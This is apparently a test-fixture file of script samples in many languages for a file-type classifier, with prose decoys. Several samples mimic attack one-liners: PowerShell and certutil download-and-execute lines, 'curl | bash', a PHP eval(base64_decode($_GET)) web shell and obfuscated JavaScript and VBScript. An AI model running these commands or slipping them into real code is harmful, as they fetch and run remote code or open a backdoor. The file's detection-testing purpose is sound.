/** Programs that are text, as people and as those who hide something write them; and texts that only talk about them. */
import { latin } from '../bytes.ts'
import { type TypeSamples, texts } from './sample.ts'

const LETTER = `Dear Sir or Madam,

please note that this function of the office will return to its old address next month, and if you set the date in your
calendar then we can start the meeting at nine. Let us know for each person, as long as the list is open, what they import
from the old house. End of the message; echo of the last one. Try it, and else call me.
`

const CODE_IN_LETTER = `Hello,

I have a question about your article in the last issue of the magazine, where you say that one should write var x = 1 and
then return it. In my opinion a reader who does not know the language will not understand why this is done at all, and I
think that the same is true for the whole chapter on loops and on the use of functions within other functions.
`

/** Samples of programs in the text forms. */
export const SCRIPT_SAMPLES: readonly TypeSamples[] = [
  texts(
    'text/javascript',
    [
      '// counts\nfunction add(a, b) {\n  return a + b;\n}\nvar total = add(1, 2);\nif (total > 2) { document.write(total); }\n',
      '(function(_0x1a2b,_0x3c4d){var _0x5e=function(_0x6f){while(--_0x6f){_0x1a2b["push"](_0x1a2b["shift"]());}};_0x5e(++_0x3c4d);}(_0xabc,0x1f4));',
      'eval(String.fromCharCode(118,97,114,32,120));var s=unescape("%41");window.location=s;',
      "import { readFile } from 'node:fs'\nexport const name = async (x) => {\n  const y = await readFile(x)\n  return y.length\n}\n",
      `[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]])]`.padEnd(120, '+[]'),
      `${'/* padding */\n'.repeat(3000)}var a = document.getElementById("x");\na.innerHTML = unescape("%3c");\nfunction f(){return a;}`,
    ],
    [LETTER, CODE_IN_LETTER, '{"function": "return", "var": [1, 2, 3]}'],
  ),
  texts(
    'application/x-jscript',
    [
      'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("calc.exe", 0, false);\n',
      'var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","http://test.invalid/",false);x.send();WScript.Sleep(100);',
      'try{var f=WScript.CreateObject("Scripting.FileSystemObject");var e=new Enumerator(f.Drives);WScript.Echo(e.item());}catch(e){}',
    ],
    [
      'We no longer use ActiveXObject in WScript, as every new version of the browser has it switched off by default.\n',
      'var a = 1;\nfunction b() { return a; }\n',
    ],
  ),
  texts(
    'text/vbscript',
    [
      'Option Explicit\nDim sh\nSet sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1, True\nSet sh = Nothing\n',
      '\' comment\nOn Error Resume Next\nFor Each x In Split("a,b", ",")\n  MsgBox x & vbCrLf\nNext\n',
      'Execute(Chr(77) & Chr(115) & Chr(103) & Chr(66) & Chr(111) & Chr(120) & " 1")\n',
      `${"' padding of the file\r\n".repeat(4000)}dim a : set a = createobject("msxml2.xmlhttp")\r\na.open "GET", "x", false\r\n`,
      'Sub Main()\n  Dim i\n  Do While i < 10\n    i = i + 1\n  Loop\nEnd Sub\nMain\n',
    ],
    [LETTER, 'Set the table, then call the others.\nDim the lights.\nEnd of the day.\n'],
  ),
  texts(
    'text/x-vba',
    [
      'Attribute VB_Name = "Module1"\nSub AutoOpen()\n  Dim s As String\n  s = "x"\nEnd Sub\n',
      'Private Declare PtrSafe Function Own Lib "kernel32" () As Long\nSub Document_Open()\n  Dim x As Long\n  Debug.Print x\nEnd Sub\n',
      'Attribute VB_Name = "ThisWorkbook"\nAttribute VB_Base = "0{00020819}"\nPrivate Sub Workbook_Open()\n  Range("A1").Value = 1\nEnd Sub\n',
    ],
    ['Sub Main()\nDim x\nSet x = CreateObject("a.b")\nEnd Sub\n', LETTER],
  ),
  texts(
    'application/x-ms-encoded-script',
    ['#@~^XQAAAA==-mD~k4P{P1DnCD+6(%mYvJ=', '#@~^AAEAAA==\u007f@#@&W!x1YkKU', '\n #@~^BAAAAA==ab'],
    ['#@~ is no header', '#@~^x==', '# @~^XQAAAA=='],
  ),
  texts(
    'application/x-powershell',
    [
      'param([string]$Name)\n$files = Get-ChildItem -Path $env:TEMP | Where-Object { $_.Length -gt 10 }\nforeach ($f in $files) { Write-Host $f.Name }\n',
      'powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
      "IEX (New-Object Net.WebClient).DownloadString('http://test.invalid/a.ps1')",
      "$a=[System.Convert]::FromBase64String('QUJD');$b=[Text.Encoding]::UTF8.GetString($a);&('I'+'EX') $b",
      'function Get-Own {\n  [CmdletBinding()]\n  param([Parameter(Mandatory)] [string] $Path)\n  try { Get-Content $Path } catch { $null }\n}\n',
      'Set-ExecutionPolicy Bypass -Scope Process -Force\nInvoke-WebRequest -Uri "http://test.invalid/x" -OutFile "$env:TEMP\\x.exe"\nStart-Process "$env:TEMP\\x.exe"\n',
    ],
    [LETTER, 'The price is $5 for a start-up, $10 for all others; get-togethers cost nothing at all in this town.\n'],
  ),
  texts(
    'application/x-bat',
    [
      '@echo off\r\nset X=1\r\nif exist "%TEMP%\\a" goto end\r\necho hello\r\n:end\r\n',
      'rem start\r\ncopy /y a b\r\ndel /q b\r\nstart "" notepad.exe\r\nexit /b 0\r\n',
      '@p^o^w^e^r^s^h^e^l^l -w hidden -c calc\r\n',
      'cmd /c certutil -urlcache -f http://test.invalid/a %TEMP%\\a.exe & %TEMP%\\a.exe\r\n',
      'setlocal enabledelayedexpansion\r\nfor /f "tokens=*" %%i in (list.txt) do (\r\n  call :own %%i\r\n)\r\ngoto :eof\r\n',
      '@set a=calc\r\n@set b=%a:~0,2%\r\n@start %b%lc\r\n',
    ],
    [LETTER, '90 % of the people, 10 % of the money: echo of a title.\nGoto the shop, and call home.\n'],
  ),
  texts(
    'text/x-shellscript',
    [
      '#!/bin/sh\necho hello\n',
      '#!/usr/bin/env bash\nset -euo pipefail\n',
      'for f in *.txt; do\n  if [ -f "$f" ]; then\n    grep -q x "$f" && echo "$f"\n  fi\ndone\n',
      'curl -s http://test.invalid/x | bash\nchmod +x /tmp/x && nohup /tmp/x > /dev/null 2>&1 &\n',
    ],
    [LETTER, '#!not an interpreter\n', 'if you are done then fi is not a word\n'],
  ),
  texts(
    'text/x-python',
    [
      '#!/usr/bin/env python3\nprint(1)\n',
      'import os\nimport sys\n\ndef main():\n    for x in range(3):\n        print(x)\n\nif __name__ == "__main__":\n    main()\n',
      'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\nfrom os import path\n',
      'class Own(object):\n    def __init__(self, x):\n        self.x = x\n    def get(self):\n        return self.x\n',
    ],
    [LETTER, 'import goods from the south\nclass of people: all\nprint this page\n'],
  ),
  texts(
    'text/x-perl',
    [
      '#!/usr/bin/perl -w\nprint 1;\n',
      'use strict;\nuse warnings;\nmy $x = shift;\nmy @list = (1, 2);\nforeach my $y (@list) { print "$y\\n"; }\n',
      'package Own::Thing;\nsub new {\n  my ($class) = @_;\n  return bless {}, $class;\n}\n1;\n',
    ],
    [LETTER, 'my $5 are gone; use them well.\n'],
  ),
  texts(
    'application/x-php',
    [
      '#!/usr/bin/php\n<?php echo 1;',
      "<?php\n$x = $_GET['a'];\neval(base64_decode($x));\n?>",
      '<?php\nnamespace Own\\Thing;\nclass A { public function b() { return $this->c; } }\n',
    ],
    [LETTER, 'In PHP one writes echo to print, as in many other languages.\n'],
  ),
  texts(
    'text/x-ruby',
    [
      '#!/usr/bin/env ruby\nputs 1\n',
      'require "json"\nmodule Own\n  class A\n    attr_accessor :b\n    def c(x)\n      puts x\n    end\n  end\nend\n',
      '[1, 2].each do |x|\n  puts "a"\nend\ndef own\n  @x = 1\nend\nputs own\n',
    ],
    [LETTER, 'The end\nof the class\n'],
  ),
  texts(
    'text/x-awk',
    [
      '#!/usr/bin/awk -f\n{ print }\n',
      'BEGIN { FS = "," }\n{ sum += $3 }\nEND { print sum; print $1 }\n',
      '#!/usr/bin/gawk -f\nBEGIN { x = 1 }\n',
    ],
    [LETTER, 'Begin here. End there.\n'],
  ),
  texts(
    'text/x-lua',
    [
      '#!/usr/bin/lua\nprint(1)\n',
      'local x = require("own")\nlocal function f(a)\n  if a then\n    return x\n  end\nend\n',
      'for k, v in pairs(t) do\n  local y = v\n  function own(z)\n    return z\n  end\nend\n',
    ],
    [LETTER, 'local people then end here\n'],
  ),
  texts(
    'text/x-tcl',
    [
      '#!/usr/bin/tclsh\nputs 1\n',
      'package require Tk\nproc own {a} {\n  puts $a\n}\n',
      'set x [list 1 2]\nforeach y $x { puts $y }\nset z [lindex $x 0]\n',
    ],
    [LETTER, 'set in stone\n'],
  ),
  texts(
    'text/x-applescript',
    [
      '#!/usr/bin/osascript\nbeep\n',
      'tell application "Finder"\n  open home\nend tell\n',
      'on run\n  do shell script "ls"\n  display dialog "x"\nend run\n',
    ],
    [LETTER, 'Please tell us about your application in the next letter, and set the time to nine.\n'],
  ),
  texts(
    'text/x-autoit',
    [
      '#include <File.au3>\nFunc own()\n  Local $x = @ScriptDir\n  ShellExecute($x)\nEndFunc\n',
      '#NoTrayIcon\nGlobal $a = 1\nIf $a Then\n  MsgBox(0, "x", "y")\nEndIf\n',
      'Local $p = DllCall("kernel32.dll", "int", "x")\nWhile 1\n  ConsoleWrite(@error & @CRLF)\nWEnd\n',
    ],
    [LETTER, '#include <stdio.h>\nint main(void) { return 0; }\n'],
  ),
  texts(
    'text/x-autohotkey',
    [
      '#NoEnv\n#SingleInstance force\nSendMode Input\nSetWorkingDir %A_ScriptDir%\n',
      '#Persistent\nSetTimer, Own, 500\nreturn\nOwn:\nSend, x\n',
      'SetWorkingDir %A_Temp%\nUrlDownloadToFile, http://test.invalid/a, b\nSleep, 500\n',
    ],
    [LETTER, 'Sleep, send, wait.\n'],
  ),
  texts(
    'text/x-c',
    [
      '#include <stdio.h>\nint main(void) {\n  printf("x");\n  return 0;\n}\n',
      '#ifndef OWN_H\n#define OWN_H\ntypedef struct own own;\nvoid *f(const char *x);\n#endif\n',
      'namespace a {\nclass B {\n public:\n  std::string c;\n  virtual void d() = 0;\n};\n}\nunsigned int x = sizeof(a);\n',
    ],
    [LETTER, 'int is short for integer, char for character\n'],
  ),
  texts(
    'text/x-java',
    [
      'package org.own.thing;\nimport java.util.List;\npublic class A {\n  private final int b = 1;\n}\n',
      'public class A {\n  public static void main(String[] args) {\n    System.out.println("x");\n  }\n}\n',
      'import org.own.B;\n@Override\npublic interface A extends B {\n  String c() throws E;\n}\nprivate static int x;\n',
    ],
    [LETTER, 'public class in the private school\n'],
  ),
  texts(
    'text/x-csharp',
    [
      'using System;\nnamespace Own {\n  class A {\n    static void Main(string[] args) { Console.WriteLine("x"); }\n  }\n}\n',
      'using System.Text;\nusing System;\npublic class B { public int C { get; set; } }\n',
      'namespace Own\n{\n  internal class D\n  {\n    [DllImport("a.dll")]\n    private readonly int e;\n  }\n}\n',
    ],
    [LETTER, 'using system of his own\n'],
  ),
  texts(
    'text/x-go',
    [
      'package main\n\nimport (\n\t"fmt"\n)\n\nfunc main() {\n\tfmt.Println("x")\n}\n',
      'package main\nfunc f() error {\n\tx, err := g()\n\tif err != nil {\n\t\treturn err\n\t}\n\treturn nil\n}\n',
      'type A struct {\n\tB int\n}\n\nfunc (a *A) C() { defer d(); x := make(chan int); _ = x }\n',
    ],
    [LETTER, 'package main things\n'],
  ),
  texts(
    'text/x-rust',
    [
      'fn main() {\n    println!("x");\n    let mut a = 1;\n}\n',
      'use std::fs;\npub fn own(x: &str) -> u8 {\n    match x { "a" => 1, _ => 0 }\n}\n',
      'impl A {\n    fn b(&self) -> C {\n        self.d.unwrap()\n    }\n}\nmod e;\n',
    ],
    [LETTER, 'use it, and let it be\n'],
  ),
  texts(
    'text/css',
    [
      'body { color: red; margin: 0 }\na:hover { text-decoration: none; }\n',
      '@media print {\n  p { font-size: 12px; width: 100% !important }\n}\n',
      '@font-face { font-family: Own; }\n.a { background: #fff; height: 2px; display: none; }\n',
    ],
    [LETTER, 'color: red, width: 2 m\n'],
  ),
  texts(
    'application/sql',
    [
      'CREATE TABLE own (id INT NOT NULL, name VARCHAR(20), PRIMARY KEY (id));\n',
      "INSERT INTO own VALUES (1, 'a');\nINSERT INTO own VALUES (2, 'b');\nSELECT * FROM own ORDER BY id;\n",
      'DROP TABLE own;\nALTER TABLE b ADD c INT NOT NULL;\nUPDATE b SET c = 1 WHERE c = 2;\n',
    ],
    [LETTER, 'select one, insert into the slot, drop table manners\n'],
  ),
  {
    type: 'text/plain',
    genuine: [
      latin(LETTER),
      Buffer.from(CODE_IN_LETTER),
      Buffer.from('Grüße'),
      latin('Gr\xfc\xdfe aus der Stadt'),
      Buffer.from('\ufeffHallo', 'utf16le'),
      Buffer.from('日本語のテキストです。'),
    ],
    near: [latin('binary\0zero'), latin('\x01\x02\x03\x04'), latin('<html><body>x</body></html>')],
  },
]
